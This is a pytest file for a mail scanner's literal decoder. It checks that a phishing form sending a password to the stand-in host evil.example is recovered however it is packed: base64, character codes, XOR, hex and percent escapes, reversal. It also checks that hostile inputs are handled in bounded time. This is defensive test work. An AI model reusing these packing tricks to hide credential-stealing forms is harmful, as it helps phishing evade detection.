"""Literals are decoded by their form, hostile ones in bounded time."""

from __future__ import annotations

import time
from base64 import b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from firstsight.mail.inside.literals import MAX_OUT, decoded

FORM = '<form action="https://evil.example/x"><input type=password>'


def numbers(text: str, shift: int = 0, mask: int = 0) -> str:
    return "[" + ",".join(str((ord(c) ^ mask) + shift) for c in text) + "]"


@pytest.mark.parametrize(
    "script",
    [
        f'w(atob("{b64encode(FORM.encode()).decode()}"))',
        f'w(atob("{b64encode(FORM.encode()).decode()[::-1]}"))',
        f"w(String.fromCharCode.apply(null, {numbers(FORM)}))",
        f"x={numbers(FORM, 3)};x.map(c => String.fromCharCode(c - 3))",
        f"x={numbers(FORM, mask=77)};x.map(c => String.fromCharCode(c ^ 77))",
        'w(unescape("' + "".join(f"%{ord(c):02x}" for c in FORM) + '"))',
        "w('" + "".join(f"\\x{ord(c):02x}" for c in FORM) + "')",
        "w('" + "' + '".join(FORM) + "')",
        f"w('{FORM[::-1]}'.split('').reverse().join(''))",
        f"w(`{FORM}`)",
    ],
    ids=["atob", "atob-reversed", "codes", "shifted", "xor", "percent", "hex", "joined", "reversed", "template"],
)
def test_a_form_is_found_however_it_is_packed(script: str) -> None:
    assert FORM in decoded(script)


def test_words_and_numbers_of_ordinary_scripts_say_nothing() -> None:
    assert decoded('var t = "Hello world, this is a table"; var a = [1, 2, 3]; f("abcdefghijklmnopqrst");') == []
    assert decoded("var x = [" + ",".join(str(n) for n in range(400)) + "]") == []


@pytest.mark.parametrize(
    "script", ['"' * 262_144, "1," * 131_072, '"a"+' * 60_000, "`" * 99_999 + "\\", "0x1," * 65_000]
)
def test_hostile_scripts_take_bounded_time_and_room(script: str) -> None:
    start = time.process_time()
    assert sum(map(len, decoded(script))) <= MAX_OUT
    assert time.process_time() - start < 3.0


@given(st.text(max_size=500))
def test_any_text_gives_an_answer(script: str) -> None:
    assert decoded(script) == decoded(script)
